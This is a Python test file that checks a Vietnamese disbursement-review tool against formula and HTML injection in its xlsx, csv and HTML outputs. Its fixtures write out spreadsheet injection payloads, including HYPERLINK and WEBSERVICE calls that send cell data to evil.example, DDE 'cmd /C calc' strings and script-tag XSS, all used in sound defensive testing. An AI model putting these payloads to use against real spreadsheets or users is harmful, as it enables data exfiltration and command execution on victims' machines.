"""No formula injection: hostile text from inputs is text in every file we write (issue 8).

Project names, investors, notes, override reasons and approvers, and the input's own file
name all reach our outputs. Any of them starting with =, +, -, @, tab or CR must be a plain
string in every .xlsx (never a formula), carry a leading apostrophe in .csv, and be escaped
in HTML. The only formulas in our files are our own totals over our own cells.
"""

from __future__ import annotations

import csv
import datetime as dt
import re
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner

from devtools.samples import write_official_workbook
from disbursement.cli import cli
from disbursement.render.tables import FORMULA_START
from tests.conftest import line

HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 Đường tab",
    "\r=1+1 Đường CR",
]
HOSTILE_INVESTOR = '=WEBSERVICE("http://evil.example/"&B14)'
HOSTILE_NOTE = '@IMPORTXML("http://evil.example")'
HTML_NAME = "<script>alert('memo')</script> Trường <b>Mường Bú</b>"
# The memo names capital sources by the sheet's own group label (matched to NSDP_CAN_DOI).
HTML_SOURCE = "Vốn cân đối ngân sách địa phương <script>alert('nguồn')</script>"
HOSTILE_REASON = '=HYPERLINK("http://evil.example","lý do")'
HOSTILE_APPROVER = "+Giám đốc|' /C calc'!A0"

# Our formulas: SUM/SUBTOTAL/IF/IFERROR over plain cell references and arithmetic on them.
OWN_FORMULA = re.compile(
    r"^=(?:(?:SUM|SUBTOTAL|IFERROR|IF)\(|[A-Z]{1,3}[0-9]+)"
    r"[A-Z0-9:,+\-*/().=<> ]*$"
)


def _hostile_workbook(folder: Path) -> Path:
    lines = [
        line(f"79100{i}", name, disbursed="100", investor=HOSTILE_INVESTOR, note=HOSTILE_NOTE)
        for i, name in enumerate(HOSTILE_NAMES, start=1)
    ]
    lines.append(line("7910099", HTML_NAME, disbursed="100"))
    lines.append(
        line("7920001", "Trường THCS xã Chiềng Mung", status="new", disbursed="0", extra_need_dong="3.000")
    )
    for record in lines:
        record["capital_source_label"] = HTML_SOURCE
    path = folder / "=kehoach.xlsx"  # the file name itself reaches the "where" columns
    write_official_workbook(path, lines, year=2022, as_of=dt.date(2022, 6, 30))
    return path


def _overrides(folder: Path) -> Path:
    path = folder / "dieu_chinh.csv"
    with open(path, "w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["Mã dự án", "Nguồn vốn", "Loại", "Số tiền", "Lý do", "Người phê duyệt"])
        writer.writerow(["791001", "NSDP_CAN_DOI", "giảm", "800", HOSTILE_REASON, HOSTILE_APPROVER])
    return path


@pytest.fixture(scope="module")
def outputs(tmp_path_factory) -> tuple[Path, Path, str]:
    folder = tmp_path_factory.mktemp("injection")
    source = _hostile_workbook(folder)
    out = folder / "out"
    result = CliRunner().invoke(
        cli,
        [
            "review",
            str(source),
            "--round",
            "1",
            "--no-audit",
            "--overrides",
            str(_overrides(folder)),
            "--out",
            str(out),
        ],
    )
    assert result.exit_code == 0, result.output
    return source, out, result.output


def _strings_and_formulas(path: Path) -> tuple[list[str], list[tuple[str, str]]]:
    book = openpyxl.load_workbook(path)  # formulas as written, not cached values
    strings, formulas = [], []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    formulas.append((f"{sheet.title}!{cell.coordinate}", str(cell.value)))
                elif cell.data_type in ("s", "inlineStr") and cell.value is not None:
                    strings.append(str(cell.value))
    return strings, formulas


def test_every_xlsx_holds_only_our_own_formulas(outputs):
    _source, out, _ = outputs
    books = sorted(out.glob("*.xlsx"))
    assert {p.name for p in books} >= {"flags.xlsx", "issues.xlsx", "proposal.xlsx", "phu_luc.xlsx"}
    for path in books:
        strings, formulas = _strings_and_formulas(path)
        foreign = [(ref, f) for ref, f in formulas if not OWN_FORMULA.match(f)]
        assert not foreign, f"{path.name}: formulas we did not write: {foreign}"
        for text in strings:  # and none of the text cells is a formula in disguise
            assert not (text.startswith("=") and OWN_FORMULA.match(text)), (path.name, text)


def _norm(text: str) -> str:
    return text.replace("\r", "").strip()  # xlsx normalises CR; leading tabs may be trimmed


@pytest.mark.parametrize("name", ["flags.xlsx", "phu_luc.xlsx"])
def test_hostile_project_names_are_plain_strings(outputs, name):
    _source, out, _ = outputs
    strings, _ = _strings_and_formulas(out / name)
    shown = {_norm(s) for s in strings}
    expected = HOSTILE_NAMES[:4] if name == "phu_luc.xlsx" else HOSTILE_NAMES
    for hostile in expected:  # the appendix lists the proposal's lines only
        assert _norm(hostile) in shown, (name, hostile)
    assert _norm(HOSTILE_INVESTOR) in shown


def test_flags_xlsx_keeps_every_hostile_field_as_text(outputs):
    source, out, _ = outputs
    strings, _ = _strings_and_formulas(out / "flags.xlsx")
    assert any(s.startswith(f"{source.name} / ") for s in strings)  # "=kehoach.xlsx / …"
    assert HTML_NAME in strings


def test_override_reason_and_approver_are_plain_strings(outputs):
    _source, out, _ = outputs
    strings, _ = _strings_and_formulas(out / "proposal.xlsx")
    assert any(HOSTILE_REASON in s and HOSTILE_APPROVER in s for s in strings)
    strings, _ = _strings_and_formulas(out / "phu_luc.xlsx")
    assert any(HOSTILE_REASON in s for s in strings)


def test_csv_escapes_every_field_a_spreadsheet_would_run(outputs):
    source, out, _ = outputs
    with open(out / "flags.csv", encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    fields = [field for row in rows[1:] for field in row]
    assert not [f for f in fields if f.startswith(FORMULA_START)]
    for hostile in HOSTILE_NAMES:  # the reader trims the leading tab / CR, "=" is then first
        assert "'" + hostile.strip() in fields, hostile
    assert "'" + HOSTILE_INVESTOR in fields
    assert any(f.startswith(f"'{source.name} / ") for f in fields)


def test_html_memo_is_escaped(outputs):
    _source, out, _ = outputs
    html = (out / "to_trinh.html").read_text(encoding="utf-8")
    assert "<script>" not in html and "<b>Mường Bú</b>" not in html
    # the sheet's own source label is replaced by the rules' official one in every vi output;
    # the hostile name reaches the browser report, escaped
    assert "Vốn cân đối ngân sách địa phương" in html and "alert('nguồn')" not in html
    report = (out / "report.html").read_text(encoding="utf-8")
    assert "<script>alert" not in report and "&lt;script&gt;alert(" in report
    markdown = (out / "to_trinh.md").read_text(encoding="utf-8")
    assert "<script>" not in markdown


def test_terminal_output_shows_names_as_written(outputs):
    _source, _out, printed = outputs
    assert "Traceback" not in printed
    assert "791001" in printed
